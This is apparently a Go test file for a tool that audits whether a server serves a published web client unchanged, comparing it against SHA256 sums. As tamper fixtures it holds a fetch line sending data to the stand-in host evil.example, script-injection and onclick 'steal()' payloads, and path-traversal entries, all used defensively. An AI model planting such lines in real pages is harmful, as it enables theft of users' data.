package audit

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"lotse/api"
)

// webDir writes a small web client and its SHA256SUMS as a build would.
func webDir(t *testing.T) (dir, sums string) {
	t.Helper()
	dir = t.TempDir()
	files := map[string]string{
		"index.html":         "<!doctype html><title>Lotse</title><script src=app.js></script>",
		"app.js":             "console.log('lotse')",
		"i18n/de.json":       `{"hello":"Hallo"}`,
		"fonts/a b.woff2":    "font",
		"assets/app.min.css": "body{}",
	}
	var list strings.Builder
	for name, content := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		sum := sha256.Sum256([]byte(content))
		fmt.Fprintf(&list, "%s  %s\n", hex.EncodeToString(sum[:]), name)
	}
	return dir, writeFile(t, "SHA256SUMS", []byte(list.String()))
}

func TestWeb(t *testing.T) {
	dir, sums := webDir(t)
	srv := httptest.NewServer(http.FileServer(http.Dir(dir)))
	defer srv.Close()

	code, out, errOut := runCLI(t, "web", "--expect", sums, srv.URL)
	if code != 0 || !strings.Contains(out, "PASS: the server serves all 6 files exactly as published.") ||
		!strings.Contains(out, "ok        / (index.html)") || !strings.Contains(out, "ok        fonts/a b.woff2") {
		t.Fatalf("web: exit %d\n%s%s", code, out, errOut)
	}

	// A changed file, a missing one.
	os.WriteFile(filepath.Join(dir, "app.js"), []byte("fetch('https://evil.example/'+code)"), 0o644)
	os.Remove(filepath.Join(dir, "i18n", "de.json"))
	code, out, _ = runCLI(t, "web", "--expect", sums, srv.URL+"/")
	if code != 1 || !strings.Contains(out, "  MISMATCH  app.js: served sha256 ") || !strings.Contains(out, "  MISSING   i18n/de.json: HTTP 404") ||
		!strings.Contains(out, "FAIL: of 6 files, 4 match, 1 differ, 1 are missing, 0 could not be fetched.") {
		t.Errorf("web after tampering: exit %d\n%s", code, out)
	}
	code, out, _ = runCLI(t, "web", "--json", "--expect", sums, srv.URL)
	var rep WebReport
	if err := json.Unmarshal([]byte(out), &rep); err != nil || code != 1 || rep.OK || rep.Mismatched != 1 || rep.Missing != 1 || rep.Matched != 4 {
		t.Errorf("web --json: exit %d, %v\n%s", code, err, out)
	}

	// A server that sends people elsewhere does not serve the client.
	away := httptest.NewServer(http.RedirectHandler("http://127.0.0.2:1/", http.StatusFound))
	defer away.Close()
	code, out, _ = runCLI(t, "web", "--expect", sums, away.URL)
	if code != 1 || !strings.Contains(out, "ERROR     app.js: redirected to another server (127.0.0.2:1)") {
		t.Errorf("redirect: exit %d\n%s", code, out)
	}
	broken := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { http.Error(w, "oops", 500) }))
	defer broken.Close()
	code, out, _ = runCLI(t, "web", "--expect", sums, broken.URL)
	if code != 1 || !strings.Contains(out, "ERROR     app.js: HTTP 500") {
		t.Errorf("500: exit %d\n%s", code, out)
	}
}

func TestReadSums(t *testing.T) {
	h := strings.Repeat("ab", 32)
	for _, tc := range []struct{ in, err string }{
		{h + "  index.html\n" + strings.ToUpper(h) + " *app.js\n\n", ""},
		{h + " index.html\n", `hash list line 1: want "<64 hex digits>  <path>"`},
		{strings.Repeat("zz", 32) + "  index.html\n", "hash list line 1: the hash is not 64 hex digits"},
		{h + "  /etc/passwd\n", `hash list line 1: path "/etc/passwd" is absolute`},
		{h + "  ../x.js\n", `hash list line 1: path "../x.js" has an empty, . or .. segment`},
		{h + "  a//b.js\n", `hash list line 1: path "a//b.js" has an empty, . or .. segment`},
		{h + "  a.js?x\n", `hash list line 1: path "a.js?x" has a backslash, ? or #`},
		{h + "  a.js\n" + h + "  a.js\n", `hash list line 2: path "a.js" already on line 1`},
		{"\n", "the hash list lists no file"},
		{h + "  a.js\n" + strings.Repeat("\n", maxSumsFile), "the hash list: larger than 1048576 bytes"},
	} {
		sums, err := ReadSums(strings.NewReader(tc.in))
		switch {
		case tc.err == "" && (err != nil || len(sums) != 2 || sums[1].Hash != h || sums[1].Path != "app.js"):
			t.Errorf("ReadSums(%q) = %+v, %v", tc.in, sums, err)
		case tc.err != "" && (err == nil || err.Error() != tc.err):
			t.Errorf("ReadSums(%q): %v, want %q", tc.in, err, tc.err)
		}
	}
}

func TestUsage(t *testing.T) {
	sums := writeFile(t, "SHA256SUMS", []byte(strings.Repeat("ab", 32)+"  index.html\n"))
	for _, tc := range []struct {
		args []string
		code int
		out  string // on stdout
		err  string // on stderr
	}{
		{[]string{"-h"}, 0, "usage: mailbox-audit <command>", ""},
		{[]string{"help"}, 0, "usage: mailbox-audit <command>", ""},
		{[]string{"check", "-h"}, 0, "usage: mailbox-audit <command>", ""},
		{nil, 1, "", "mailbox-audit: error: no command\nmailbox-audit: hint: run mailbox-audit -h for the commands\n"},
		{[]string{"verify", "x"}, 1, "", `mailbox-audit: error: unknown command "verify"`},
		{[]string{"check"}, 1, "", "mailbox-audit: error: check: no SNAPSHOT given\n"},
		{[]string{"check", "a.db", "b.db"}, 1, "", "mailbox-audit: error: check: one SNAPSHOT only, got 2 arguments\n"},
		{[]string{"check", "a.db", "--json"}, 1, "", "mailbox-audit: error: check: flag --json after the SNAPSHOT\nmailbox-audit: hint: flags go before it: mailbox-audit check --json SNAPSHOT\n"},
		{[]string{"check", "--canary", "x", "a.db"}, 1, "", "mailbox-audit: error: check: flag provided but not defined: -canary\n"},
		{[]string{"scan", "a.db"}, 1, "", "mailbox-audit: error: scan: no canary file\nmailbox-audit: hint: give one with --canary FILE"},
		{[]string{"scan", "--canary", "/nonexistent/c.txt", "a.db"}, 1, "", "mailbox-audit: error: open /nonexistent/c.txt: no such file or directory\n"},
		{[]string{"web", "http://127.0.0.1:1"}, 1, "", "mailbox-audit: error: web: no hash list\n"},
		{[]string{"web", "--expect", sums, "ftp://example.org"}, 1, "", `mailbox-audit: error: the URL must be http(s)://host[:port][/path], got "ftp://example.org"`},
		{[]string{"web", "--timeout", "0s", "--expect", sums, "http://127.0.0.1:1"}, 1, "", "mailbox-audit: error: web: --timeout must be positive\n"},
	} {
		code, out, errOut := runCLI(t, tc.args...)
		if code != tc.code || !strings.HasPrefix(out, tc.out) || !strings.HasPrefix(errOut, tc.err) || (tc.out == "") != (out == "") {
			t.Errorf("mailbox-audit %q: exit %d\nstdout %q\nstderr %q", tc.args, code, out, errOut)
		}
	}
}

// TestWebExitLink: mailboxd serves index.html at "/" only, with the quick
// exit link its operator configured; that page still matches, anything
// else changed in it does not.
func TestWebExitLink(t *testing.T) {
	if defaultExitLink != api.DefaultExitURL {
		t.Fatalf("defaultExitLink %q, mailboxd builds with %q", defaultExitLink, api.DefaultExitURL)
	}
	published := `<!doctype html><a id="exit" class="exit" href="https://www.wikipedia.org/">Weg hier</a><script src="app.js"></script>`
	sum := sha256.Sum256([]byte(published))
	sums := writeFile(t, "SHA256SUMS", []byte(hex.EncodeToString(sum[:])+"  index.html\n"))
	for _, tc := range []struct {
		page string
		ok   bool
		note string
	}{
		{published, true, ""},
		{strings.Replace(published, "https://www.wikipedia.org/", "https://www.tagesschau.de/wetter?x=1&amp;y=2", 1), true,
			"the same as published but for the quick-exit link, which the operator set to https://www.tagesschau.de/wetter?x=1&y=2"},
		{strings.Replace(published, "https://www.wikipedia.org/", "javascript:alert(1)", 1), false, ""},
		{strings.Replace(published, "https://www.wikipedia.org/", "http://plain.example/", 1), false, ""},
		{strings.Replace(strings.Replace(published, "https://www.wikipedia.org/", "https://example.org/", 1), "app.js", "evil.js", 1), false, ""},
		{strings.Replace(published, `href="https://www.wikipedia.org/"`, `href="https://example.org/" onclick="steal()"`, 1), false, ""},
	} {
		code, rep, out := webIndexOnly(t, sums, tc.page)
		if (code == 0) != tc.ok || rep.OK != tc.ok || len(rep.Files) != 1 || rep.Files[0].Note != tc.note {
			t.Errorf("page %.60q: exit %d\n%s", tc.page, code, out)
		}
	}
}

// TestWebSiteTexts: mailboxd writes the operator's texts into four places
// that the build leaves empty; a page with texts there matches, a page with
// anything else there (markup, an attribute, a second place) does not.
func TestWebSiteTexts(t *testing.T) {
	published := `<!doctype html><title></title><p class="brand" id="brand"></p>` +
		`<a id="exit" class="exit" href="https://www.wikipedia.org/">Weg</a><div id="service" hidden></div>` +
		`<main><noscript></noscript></main><script src="app.js"></script>`
	section := func(lang, text string) string {
		return `<section lang="` + lang + `"><h1>` + text + `</h1><p>a</p><p>b</p><p>c d</p><p>e</p><ul>` +
			`<li><a href="/info/` + lang + `/">i</a></li><li><a href="/info/` + lang + `/safety">s</a></li>` +
			`<li><a href="/info/` + lang + `/centres">c</a></li></ul></section>`
	}
	fill := func(title, service, noscript string) string {
		p := strings.Replace(published, `<title></title>`, `<title>`+title+`</title>`, 1)
		p = strings.Replace(p, `<p class="brand" id="brand"></p>`, `<p class="brand" id="brand">`+title+`</p>`, 1)
		p = strings.Replace(p, `<div id="service" hidden></div>`, `<div id="service" hidden`+service+`></div>`, 1)
		return strings.Replace(p, `<noscript></noscript>`, `<noscript><div class="noscript">`+noscript+`</div></noscript>`, 1)
	}
	good := fill("Beratung &amp; Hilfe", ` data-name-de="Beratung" data-hours-de="Mo&#39;Fr 9–17" data-answer-ar="خلال يومين"`,
		section("de", "JavaScript fehlt")+section("ar", "مرحبا"))
	sum := sha256.Sum256([]byte(published))
	sums := writeFile(t, "SHA256SUMS", []byte(hex.EncodeToString(sum[:])+"  index.html\n"))
	for _, tc := range []struct {
		name string
		page string
		ok   bool
	}{
		{"texts", good, true},
		{"texts and exit link", strings.Replace(good, "https://www.wikipedia.org/", "https://www.tagesschau.de/", 1), true},
		{"script in the title", fill("x</title><script>steal()</script><title>", "", section("de", "t")), false},
		{"markup in the header", strings.Replace(good, `id="brand">Beratung &amp; Hilfe`, `id="brand"><img src=x>`, 1), false},
		{"handler on #service", fill("t", ` data-name-de="x" onclick="steal()"`, section("de", "t")), false},
		{"script in noscript", fill("t", "", section("de", "t")+`<script>steal()</script>`), false},
		{"link elsewhere in noscript", fill("t", "", strings.Replace(section("de", "t"), `/info/de/safety`, `https://evil.example/`, 1)), false},
		{"second title", strings.Replace(good, `<main>`, `<title>x</title><main>`, 1), false},
		{"other script", strings.Replace(good, "app.js", "evil.js", 1), false},
	} {
		code, rep, out := webIndexOnly(t, sums, tc.page)
		if (code == 0) != tc.ok || rep.OK != tc.ok {
			t.Errorf("%s: exit %d\n%s", tc.name, code, out)
		}
	}
}

// webIndexOnly runs mailbox-audit web against a server that serves page at
// "/" and nothing else.
func webIndexOnly(t *testing.T, sums, page string) (int, WebReport, string) {
	t.Helper()
	return webFiles(t, sums, map[string]string{"/": page})
}

// webFiles runs mailbox-audit web against a server that serves files by
// path and nothing else.
func webFiles(t *testing.T, sums string, files map[string]string) (int, WebReport, string) {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, ok := files[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Write([]byte(b))
	}))
	defer srv.Close()
	var rep WebReport
	code, out, _ := runCLI(t, "web", "--json", "--expect", sums, srv.URL)
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatal(err)
	}
	return code, rep, out
}

// publishedPage is a built index.html with the places mailboxd fills.
const publishedPage = `<!doctype html><title></title><p class="brand" id="brand"></p>` +
	`<a id="exit" class="exit" href="https://www.wikipedia.org/">Weg</a><div id="service" hidden></div>` +
	`<main><noscript></noscript></main><script src="app.js"></script>`

// catalogueFile names a catalogue as webclient/build.mjs and mailboxd do.
func catalogueFile(lang, body string) string {
	h := sha256.Sum256([]byte(body))
	return "lang-" + lang + "-" + strings.ToUpper(hex.EncodeToString(h[:4])) + ".json"
}

// sumsFile writes the SHA256SUMS of files, by name.
func sumsFile(t *testing.T, files map[string]string) string {
	t.Helper()
	var list strings.Builder
	for n, b := range files {
		h := sha256.Sum256([]byte(b))
		fmt.Fprintf(&list, "%s  %s\n", hex.EncodeToString(h[:]), n)
	}
	return writeFile(t, "SHA256SUMS", []byte(list.String()))
}

// TestWebOperatorCatalogues: a page that names catalogues of the operator's
// own texts still matches the published one; each such catalogue is
// fetched, must be what its name's hash says and hold only keys and
// placeholders of the published catalogue of its language, and the report
// says which texts the operator changed.
func TestWebOperatorCatalogues(t *testing.T) {
	published := publishedPage
	ours := `{"title":"Bonjour","count":"{n} messages","exit":"Quitter"}`
	name := catalogueFile
	sums := sumsFile(t, map[string]string{"index.html": published, name("fr", ours): ours})
	run := func(attr string, files map[string]string) (int, WebReport, string) {
		page := strings.Replace(published, `<div id="service" hidden></div>`, `<div id="service" hidden data-name-fr="Conseil"`+attr+`></div>`, 1)
		page = strings.Replace(page, `<title></title>`, `<title>Conseil</title>`, 1)
		page = strings.Replace(page, `<p class="brand" id="brand"></p>`, `<p class="brand" id="brand">Conseil</p>`, 1)
		page = strings.Replace(page, `<noscript></noscript>`, `<noscript><div class="noscript"></div></noscript>`, 1)
		files["/"] = page
		files["/"+name("fr", ours)] = ours
		return webFiles(t, sums, files)
	}

	theirs := `{"title":"Bienvenue","count":"{n} messages","exit":"Partir"}`
	code, rep, out := run(` data-catalogue-fr="/`+name("fr", theirs)+`"`, map[string]string{"/" + name("fr", theirs): theirs})
	if code != 0 || !rep.OK || len(rep.Files) != 3 {
		t.Fatalf("operator catalogue: exit %d\n%s", code, out)
	}
	// The hash list is written from a map: the files' order varies.
	var notes string
	for _, f := range rep.Files {
		notes += f.Note + "|"
	}
	for _, want := range []string{"web client texts in fr", "changed 2 of the published 3 texts: exit, title"} {
		if !strings.Contains(notes, want) {
			t.Errorf("the report lacks %q:\n%s", want, out)
		}
	}

	for _, tc := range []struct {
		name, attr string
		files      map[string]string
	}{
		{"unknown key", ` data-catalogue-fr="/` + name("fr", `{"titel":"x"}`) + `"`, map[string]string{"/" + name("fr", `{"titel":"x"}`): `{"titel":"x"}`}},
		{"placeholder", ` data-catalogue-fr="/` + name("fr", `{"count":"messages"}`) + `"`, map[string]string{"/" + name("fr", `{"count":"messages"}`): `{"count":"messages"}`}},
		{"not its hash", ` data-catalogue-fr="/lang-fr-00000000.json"`, map[string]string{"/lang-fr-00000000.json": theirs}},
		{"not served", ` data-catalogue-fr="/` + name("fr", theirs) + `"`, map[string]string{}},
		{"a script", ` data-catalogue-fr="/app.js"`, map[string]string{}},
		{"no published catalogue", ` data-catalogue-ru="/` + name("ru", theirs) + `"`, map[string]string{"/" + name("ru", theirs): theirs}},
	} {
		if code, rep, out := run(tc.attr, tc.files); code == 0 || rep.OK {
			t.Errorf("%s: exit %d\n%s", tc.name, code, out)
		}
	}
}
